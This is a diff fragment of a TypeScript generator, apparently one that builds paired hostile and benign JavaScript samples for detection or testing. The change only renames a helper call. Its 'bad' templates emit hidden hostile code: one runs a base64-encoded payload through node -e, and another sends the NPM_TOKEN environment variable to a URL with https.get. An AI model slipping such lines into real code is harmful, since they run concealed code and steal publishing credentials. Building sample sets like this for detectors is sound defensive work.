@@ -89,15 +89,15 @@ export const JS_HIDDEN: Readonly<Record<string, JsDeed>> = {
   },
   'node-e': {
     bad: (w, t) =>
-      `${w.fn('child_process', 'execFile')}(${w.text('node')}, ['-e', Buffer.from(${quoted(base64(payload(t)))}, 'base64').toString()]);`,
+      `${w.fn('child_process', 'execFile')}(${w.command('node')}, ['-e', Buffer.from(${quoted(base64(payload(t)))}, 'base64').toString()]);`,
     twin: (w) =>
-      `${w.fn('child_process', 'execFile')}(${w.text('node')}, ['-p', 'process.version'], (e, out) => console.log(out));`,
+      `${w.fn('child_process', 'execFile')}(${w.command('node')}, ['-p', 'process.version'], (e, out) => console.log(out));`,
   },
   'node-e-no-blank': {
     bad: (w, t) =>
       `${w.fn('child_process', 'execFile')}('node', ['-e', ${w.text(`require('https').get('${urlOf(t, '/')}'+process.env.NPM_TOKEN)`)}]);`,
     twin: (w) =>
-      `${w.fn('child_process', 'execFile')}('node', ['-e', ${w.text("console.log(require('os').EOL.length)")}], () => {});`,
+      `${w.fn('child_process', 'execFile')}('node', ['-e', ${w.command("console.log(require('os').EOL.length)")}], () => {});`,
   },
   'write-decoded-node': {
     bad: (w, t) =>
